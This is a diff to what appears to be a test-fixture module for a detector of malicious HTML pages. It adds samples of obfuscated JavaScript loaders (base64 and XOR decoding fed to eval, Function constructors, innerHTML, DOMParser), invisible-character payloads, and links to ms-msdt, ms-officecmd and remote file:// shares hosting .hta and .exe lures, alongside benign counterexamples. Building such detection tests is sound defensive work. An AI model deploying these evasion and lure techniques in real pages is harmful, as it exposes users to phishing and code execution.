@@ -208,6 +208,24 @@ def pages() -> dict[str, str]:
     found["secret-script"] = _page(
         f"var k=7,t='';var d=atob('{base64.b64encode(SECRET).decode()}');for(i in d)t+=String.fromCharCode(d.charCodeAt(i)^k);eval(t)"
     )
+    secret = base64.b64encode(SECRET).decode()
+    for name, script in {
+        "inner": f"document.body.innerHTML=atob('{secret}').split('').reverse().join('')",
+        "outer": f"document.documentElement['outerHTML'] = window.atob('{secret}')",
+        "adjacent": f"document.body.insertAdjacentHTML('beforeend',atob('{secret}'))",
+        "fragment": f"document.body.append(document.createRange().createContextualFragment(atob('{secret}')))",
+        "parsed": f"document.replaceChild(new DOMParser().parseFromString(atob('{secret}'),'text/html').body,document.body)",
+        "frame": f"f.srcdoc=atob('{secret}')",
+        "script": f"s.text=atob('{secret}');document.head.append(s)",
+        "constructor": f"[]['filter']['constructor'](atob('{secret}'))()",
+        "construct": f"Reflect.construct(Function,[atob('{secret}')])()",
+        "text-decoder": f"eval(new TextDecoder().decode(Uint8Array.from({[c ^ 5 for c in SAVING.encode()]}.map(c=>c^5))))",
+        "decrypted": f"document.write(CryptoJS.AES.decrypt('{secret}','k').toString(CryptoJS.enc.Utf8))",
+    }.items():
+        found[f"inserted/{name}"] = _page(script)
+    letters = "".join("\u3164\uffa0"[code >> bit & 1] for code in b"alert(1)" * 40 for bit in range(8))
+    unseen = f"var s='{letters.encode().decode('latin-1')}',t='';for(c of s)t+=c>k;eval(String.fromCharCode(t))"
+    found["unseen-letters"] = _page(unseen)
     found |= _carrying()
     found |= _addressing()
     return found
@@ -325,6 +343,11 @@ def handed_over() -> dict[str, str]:
         "refresh": f'<html><meta http-equiv="refresh" content="0;url={search}"></html>',
         "form": "<html><form action='ms-officecmd:{}'></form></html>",
         "script": _page("window.location.href = 'ms-msdt:/id PCWDiagnostic'"),
+        "other-search": f'<html><a href="{search.replace("-ms", "")}">open</a></html>',
+        "file": '<html><a href="file:///C:/Windows/System32/calc.exe">open</a></html>',
+        "file-share": "<html><a href=FILE://192.0.2.9/s/invoice.hta>open</a></html>",
+        "file-spelled": '<html><a href="f&#105;le:\\\\192.0.2.9\\s\\invoice.exe">open</a></html>',
+        "moniker": '<html><a href="file:///\\\\192.0.2.9\\s\\invoice.rtf!x">open</a></html>',
         "opened": _page('window.open("ms-appinstaller:?source=https://x.example/a.msix")'),
     }
 
@@ -444,6 +467,17 @@ def harmless_pages() -> dict[str, str]:
         ),
         "linked-picture": f"<html><a download='chart.png' href='data:image/png;base64,{picture}'>save</a></html>",
         "query": f"<html><a href='https://www.example.com/get?download=setup.exe&x=1'>get</a><img src='data:image/png;base64,{picture}'></html>",
+        "file-links": (
+            '<html><a href="file:///C:/plans/2026.docx">a</a><a href="file://fs01/plans/Wow!.docx">b</a>'
+            '<a href="file://192.168.1.5/plans/2026.xlsx">c</a> file:///C:/a.exe <a href="search:x">d</a>'
+            '<a href="file:///\\\\fs01\\tools\\setup.exe">e</a></html>'
+        ),
+        "inserted": _page(
+            "e.innerHTML=decodeURIComponent(x);s.text=t", body=f"<input value='{base64.b64encode(SECRET).decode()}'>"
+        ),
+        "preheader": "<html><div hidden>"
+        + "&zwnj;&nbsp;" * 300
+        + "</div><script>eval(String.fromCharCode(a))</script></html>",
         "jquery": _page(
             jquery + "$('.download').length;var x=" + str(numbers), head="<style>.download{color:red}</style>"
         ),
